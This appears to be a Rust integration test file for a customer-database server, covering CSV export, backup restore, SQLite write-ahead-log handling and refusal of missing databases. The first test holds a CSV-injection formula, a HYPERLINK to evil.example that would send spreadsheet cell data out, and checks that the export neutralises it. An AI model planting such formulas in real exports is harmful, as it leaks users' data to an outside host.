fn a_csv_export_never_hands_a_spreadsheet_a_formula_and_imports_back_as_it_was() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let server = Server::start(&db, &[]);
    let formula = r#"=HYPERLINK("http://evil.example/?"&A1;"click")"#;
    let added = add(
        &server,
        json!({"email": "f@shop.be", "firstName": formula, "phone": "+32 475 00 00 00",
               "lastName": "@SUM(1)", "city": "-2+3"}),
    );
    assert_eq!(added.status, 201, "{}", added.body);
    let id = added.customers()[0]["clcleunik"].as_i64().unwrap();
    drop(server);

    let csv = dir.path().join("out.csv");
    let out = cli(
        &db,
        &["export", "--format", "csv", "-o", csv.to_str().unwrap()],
    );
    assert!(out.status.success(), "{}", stderr(&out));
    let text = std::fs::read_to_string(&csv).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    for record in reader.records() {
        for cell in &record.unwrap() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@']),
                "a cell a spreadsheet would run: {cell}"
            );
        }
    }

    let copy = dir.path().join("copy.db");
    let imported = cli(&copy, &["import", csv.to_str().unwrap()]);
    assert!(imported.status.success(), "{}", stderr(&imported));
    let again = Server::start(&copy, &[]);
    let customer = &again
        .get(&format!("/CUSTOMER/LIST/?id_client={id}"))
        .customers()[0];
    assert_eq!(customer["firstName"], formula);
    assert_eq!(customer["phone"], "+32 475 00 00 00");
    assert_eq!(customer["lastName"], "@SUM(1)");
    assert_eq!(customer["city"], "-2+3");
}

#[test]
fn a_changes_token_from_before_a_restore_is_told_to_start_again() {
    if !sqlite_only("restoring a SQLite backup") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let live = dir.path().join("live.db");
    let copy = dir.path().join("copy.db");
    let server = Server::start(&live, &[]);
    let move_to = |server: &Server, ids: &[i64], city: &str| {
        for id in ids {
            let body = json!({"id_client": id, "city": city}).to_string();
            let reply = server.request(
                "POST",
                "/CUSTOMER/UPDATE/",
                &[("Content-Type", "application/json")],
                &body,
            );
            assert_eq!(reply.status, 200);
        }
    };
    let next = |server: &Server, since: &str| {
        let reply = server.get(&format!("/CUSTOMER/CHANGES/?since={since}&limit=10000"));
        (
            reply.status,
            reply.json()["result"]["next"].as_str().map(str::to_owned),
        )
    };
    let backup = cli(&live, &["backup", copy.to_str().unwrap()]);
    assert!(backup.status.success(), "{}", stderr(&backup));
    // The backup as taken, to restore a second time at the end.
    let kept = dir.path().join("kept.db");
    std::fs::copy(&copy, &kept).unwrap();
    move_to(&server, &[12, 13, 14], "After the backup");
    let (_, token) = next(&server, "0");
    let token = token.unwrap();
    drop(server);

    // The backup restored, and written to before the back office polls again.
    let restored = Server::start(&copy, &[]);
    move_to(&restored, &[15, 16, 17, 18, 19], "After the restore");

    let (status, _) = next(&restored, &token);
    assert_eq!(
        status, 410,
        "a token from the live database, after a restore"
    );
    let (status, fresh) = next(&restored, "0");
    assert_eq!(status, 200);
    assert_eq!(
        next(&restored, &fresh.unwrap()).0,
        200,
        "tokens of the restored one work"
    );

    // Starting again from 0 a few at a time, as the README's loop does: every token the
    // restored database hands out works, and the walk ends with every customer seen once.
    let mut since = "0".to_owned();
    let mut seen = Vec::new();
    for _ in 0..100 {
        let reply = restored.get(&format!("/CUSTOMER/CHANGES/?since={since}&limit=3"));
        assert_eq!(reply.status, 200, "since={since}: {}", reply.body);
        let page = reply.json();
        let customers = page["result"]["customer"].as_array().unwrap();
        if customers.is_empty() {
            break;
        }
        seen.extend(customers.iter().map(|c| c["clcleunik"].as_i64().unwrap()));
        since = page["result"]["next"].as_str().unwrap().to_owned();
    }
    seen.sort_unstable();
    let listed: Vec<i64> = restored
        .get("/CUSTOMER/LIST/")
        .customers()
        .iter()
        .map(|c| c["clcleunik"].as_i64().unwrap())
        .collect();
    assert_eq!(seen, listed, "every customer once, and the walk ends");

    // The same backup restored a second time, then written to: a token of the first
    // restored life must not go on in the second (it would miss what this one undid).
    let (_, first_life) = next(&restored, "0");
    drop(restored);
    let again = dir.path().join("again.db");
    std::fs::copy(&kept, &again).unwrap();
    let second = Server::start(&again, &[]);
    move_to(&second, &[20, 21, 22, 23], "Second restore");
    assert_eq!(next(&second, &first_life.unwrap()).0, 410);
    assert_eq!(next(&second, &token).0, 410, "nor one of the live database");
}

#[test]
fn another_program_reading_the_database_after_health_never_splits_the_server_from_it() {
    if !sqlite_only("SQLite's file locks") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let server = Server::start(&db, &[]);
    assert_eq!(server.get("/health").status, 200);
    assert_eq!(server.get("/health").status, 200);

    // Another program (sqlite3, a backup script) opens the file, reads, closes: Python's
    // sqlite3 module, with the system's SQLite, as such a program would.
    let read = std::process::Command::new("python3")
        .arg("-c")
        .arg(
            "import sqlite3, sys; c = sqlite3.connect(sys.argv[1]); \
             print(c.execute('SELECT count(*) FROM api_key').fetchone()[0]); c.close()",
        )
        .arg(&db)
        .output()
        .expect("python3 runs");
    assert_eq!(
        String::from_utf8_lossy(&read.stdout).trim(),
        "0",
        "{read:?}"
    );
    let mut wal = db.as_os_str().to_owned();
    wal.push("-wal");
    assert!(
        std::path::Path::new(&wal).exists(),
        "the server's WAL was deleted under it"
    );

    // A write through the server is in the file the tools read.
    let added = add(&server, json!({"email": "after-health@shop.be"}));
    assert_eq!(added.status, 201, "{}", added.body);
    let exported = cli(&db, &["export"]);
    assert!(
        String::from_utf8_lossy(&exported.stdout).contains("after-health@shop.be"),
        "the server wrote somewhere the tools do not see"
    );
}

#[test]
fn a_deleted_mistyped_or_empty_database_beside_its_backups_is_refused_not_replaced_by_a_demo() {
    if !sqlite_only("a SQLite file and its backups") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let backups = dir.path().join("backups");
    let scheduled = [
        ("ROCKET_BACKUP_DIR", backups.to_str().unwrap()),
        ("ROCKET_SEED_DEMO", "true"),
    ];
    // A shop with a key and its first scheduled backup.
    let server = Server::start(&db, &scheduled);
    let key = create_key(&db, "webshop");
    let backed_up = || {
        std::fs::read_dir(&backups).is_ok_and(|entries| {
            entries.filter_map(Result::ok).any(|entry| {
                let name = entry.file_name().to_string_lossy().into_owned();
                name.starts_with("clientele-") && name.ends_with(".db")
            })
        })
    };
    assert!(eventually(std::time::Duration::from_secs(10), backed_up));
    drop(server);
    let copies = || std::fs::read_dir(&backups).unwrap().count();
    let kept = copies();
    let serve = |database: &std::path::Path| {
        serve_refused(
            database,
            &[
                ("ROCKET_BACKUP_DIR", backups.to_str().unwrap()),
                ("ROCKET_SEED_DEMO", "true"),
            ],
        )
    };

    // The file deleted (with its side files), or `database` mistyped: no new demo shop, no
    // backup pruned; the message says which backup to restore, and how.
    for suffix in ["", "-wal", "-shm"] {
        let _ = std::fs::remove_file(format!("{}{suffix}", db.display()));
    }
    let typo = dir.path().join("shopp.db");
    for database in [&db, &typo] {
        let (code, said) = serve(database);
        assert_eq!(code, Some(78), "{said}");
        assert!(said.contains("does not exist"), "{said}");
        assert!(said.contains(backups.to_str().unwrap()), "{said}");
        assert!(said.contains("cp ") && said.contains("rm -f"), "{said}");
        assert!(!database.exists(), "nothing created");
        assert_eq!(copies(), kept, "no backup taken or pruned");
    }
    // Nor does a tool that could create one.
    let created = cli(&db, &["keys", "create", "another"]);
    assert!(!created.status.success());
    assert!(!db.exists());

    // Restored as it says: the shop is back, its key with it.
    let said = serve(&db).1;
    let command = said
        .split('`')
        .find(|part| part.starts_with("rm -f "))
        .unwrap();
    assert!(
        command.contains("-wal") && command.contains("-shm"),
        "{command}"
    );
    let copy = command.split("&& ").nth(1).unwrap();
    let newest = copy.split(' ').nth(1).unwrap();
    std::fs::copy(newest, &db).unwrap();
    let restored = Server::start(&db, &[]);
    let listed = restored.request(
        "GET",
        "/CUSTOMER/LIST/?id_client=1",
        &[("X-API-Key", &key)],
        "",
    );
    assert_eq!(listed.status, 200, "{}", listed.body);
    drop(restored);

    // A file of 0 bytes (a copy that failed) is no database, whatever is beside it.
    let empty = tempfile::tempdir().unwrap();
    let zero = empty.path().join("zero.db");
    std::fs::write(&zero, b"").unwrap();
    let (code, said) = serve(&zero);
    assert_eq!(code, Some(78), "{said}");
    assert!(said.contains("0 bytes"), "{said}");
    assert_eq!(std::fs::metadata(&zero).unwrap().len(), 0, "left as it was");
}

#[test]
fn a_cleanly_stopped_server_leaves_every_write_in_the_database_file_itself() {
    if !sqlite_only("SQLite's write-ahead log") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    let mut server = Server::start(&db, &[]);
    let body = json!({"email": "last.write@shop.example", "firstName": "Last"}).to_string();
    let added = server.request(
        "POST",
        "/CUSTOMER/ADD/",
        &[("Content-Type", "application/json")],
        &body,
    );
    assert_eq!(added.status, 201, "{}", added.body);
    let status = server.terminate(std::time::Duration::from_secs(10));
    assert!(status.is_some_and(|status| status.success()), "{status:?}");

    // The file alone, as a copy of it would be, read without its side files.
    let wal = std::fs::metadata(format!("{}-wal", db.display())).map_or(0, |meta| meta.len());
    assert_eq!(wal, 0, "the log is folded in and emptied");
    let alone = rusqlite::Connection::open_with_flags(
        format!("file:{}?immutable=1", db.display()),
        rusqlite::OpenFlags::SQLITE_OPEN_READ_ONLY | rusqlite::OpenFlags::SQLITE_OPEN_URI,
    )
    .unwrap();
    let found: i64 = alone
        .query_row(
            "SELECT count(*) FROM customer WHERE email = 'last.write@shop.example'",
            [],
            |row| row.get(0),
        )
        .unwrap();
    assert_eq!(found, 1);
    assert!(server.log().contains("folded the write-ahead log"));
}

#[test]
fn a_typo_beside_a_shop_or_a_file_deleted_after_a_clean_stop_is_refused_without_backups() {
    if !sqlite_only("a SQLite file and its side files") {
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("clientele.db");
    // A shop stopped cleanly: its -wal and -shm stay, empty.
    let mut server = Server::start(&db, &[]);
    assert!(server
        .terminate(std::time::Duration::from_secs(10))
        .is_some());
    let serve =
        |database: &std::path::Path| serve_refused(database, &[("ROCKET_SEED_DEMO", "true")]);

    // `database` mistyped: the real one beside it is named.
    let typo = dir.path().join("clientle.db");
    let (code, said) = serve(&typo);
    assert_eq!(code, Some(78), "{said}");
    assert!(said.contains("clientele.db beside it"), "{said}");
    assert!(!typo.exists());
    // A database of another name beside it (a test copy) is the owner's choice: it starts.
    let archive = dir.path().join("archive.db");
    let other = Server::start(&archive, &[]);
    assert_eq!(other.get("/health").status, 200);
    drop(other);

    // The file deleted, its side files left: refused, saying to delete them first.
    std::fs::remove_file(&db).unwrap();
    let (code, said) = serve(&db);
    assert_eq!(code, Some(78), "{said}");
    assert!(said.contains("-wal or -shm"), "{said}");
    assert!(
        said.contains("-wal and") && said.contains("-shm first"),
        "{said}"
    );
    assert!(!db.exists());
}

#[test]
fn the_shops_customer_1_does_not_inherit_the_lockout_of_demo_customer_1() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("shop.db");
    quick_start(&db);
    let server = quick_start_server(&db);
    let login = |who: &str, password: &str| {
        server
            .request(
                "POST",
                "/CUSTOMER/LOGIN/",
                &[("Content-Type", "application/json")],
                &json!({"login": who, "password": password}).to_string(),
            )
            .status
    };
    let statuses: Vec<u16> = (0..11).map(|_| login("jdoe", "wrong guess")).collect();
    assert_eq!(statuses.last(), Some(&429), "{statuses:?}");

    // The first import replaces the demo customers while the server runs.
    let csv = dir.path().join("real.csv");
    std::fs::write(
        &csv,
        "clcleunik,email,login,password\n1,alice@realshop.be,alice,alice real pw 11\n",
    )
    .unwrap();
    let imported = cli(&db, &["import", csv.to_str().unwrap()]);
    assert!(imported.status.success(), "{}", stderr(&imported));

    assert_eq!(login("alice", "alice real pw 11"), 200);
}

/// The quick start's server on `db`: the demo customers as shipped, not yet adopted.
fn quick_start_server(db: &std::path::Path) -> Server {
    let mut command = binary();
    command.arg("serve");
    Server::spawn(
        command,
        &std::path::PathBuf::new(),
        &[(
            "ROCKET_DATABASE",
            resolve(db, Start::Demo).to_str().unwrap(),
        )],
    )
}

/// `clientele serve` on `database` with `env`, expected to refuse at once (under `timeout`,
/// so that a server that starts when it must not still ends the test): its exit code and
/// what it said.
fn serve_refused(database: &std::path::Path, env: &[(&str, &str)]) -> (Option<i32>, String) {
    let mut command = std::process::Command::new("timeout");
    command
        .args(["-s", "KILL", "20"])
        .arg(env!("CARGO_BIN_EXE_clientele"))
        .arg("serve")
        .current_dir(root())
        .env("ROCKET_DATABASE", database)
        .env("ROCKET_PORT", "0");
    for (name, value) in env {
        command.env(name, value);
    }
    let output = command.output().unwrap();
    (output.status.code(), stderr(&output))
}
